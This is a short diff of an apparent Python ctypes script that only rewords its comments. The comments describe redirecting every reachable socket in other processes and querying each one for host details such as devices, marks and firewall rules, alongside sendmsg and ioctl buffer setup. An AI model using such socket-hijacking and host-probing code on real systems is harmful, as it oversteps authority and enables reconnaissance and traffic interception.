@@ -1,4 +1,5 @@
-# Turns every socket that it can hold, in every process that can hold it, by every call that turns sockets, and asks it about its host.
+# Tries to redirect each socket that it can get, in each process that can hold it, by each call that can do so. It also asks each socket
+# about the host.
 HIGH = 0x500000000
 MSG_FASTOPEN, MSG_NOSIGNAL, MSG_ERRQUEUE = 0x20000000, 0x4000, 0x2000
 SIOCGIFCONF, SIOCGSKNS, SIOCETHTOOL = 0x8912, 0x894C, 0x8946
@@ -10,7 +11,7 @@ header = struct.pack("=QI4xQQQQi4x", ctypes.addressof(target), 16, ctypes.addres
 message = ctypes.create_string_buffer(header + struct.pack("=I4x", 0), len(header) + 8)
 store = ctypes.create_string_buffer(4096)
 request = ctypes.create_string_buffer(struct.pack("=i4xQ", 4096, ctypes.addressof(store)), 40)
-# What of the host a socket could name: its device, mark, filter, options, packets' interfaces, multicast groups, the packet filter's rules.
+# Facts of the host that a socket could show: device, mark, filter, options, interfaces of packets, multicast groups, firewall rules.
 FACTS = {
     "SO_BINDTODEVICE": (1, 25), "SO_BINDTOIFINDEX": (1, 62), "SO_MARK": (1, 36), "SO_GET_FILTER": (1, 26), "SO_PEERSEC": (1, 31),
     "IP_OPTIONS": (0, 4), "IP_PKTOPTIONS": (0, 9), "IP_UNICAST_IF": (0, 50), "IP_MULTICAST_IF": (0, 32), "IP_MSFILTER": (0, 41),
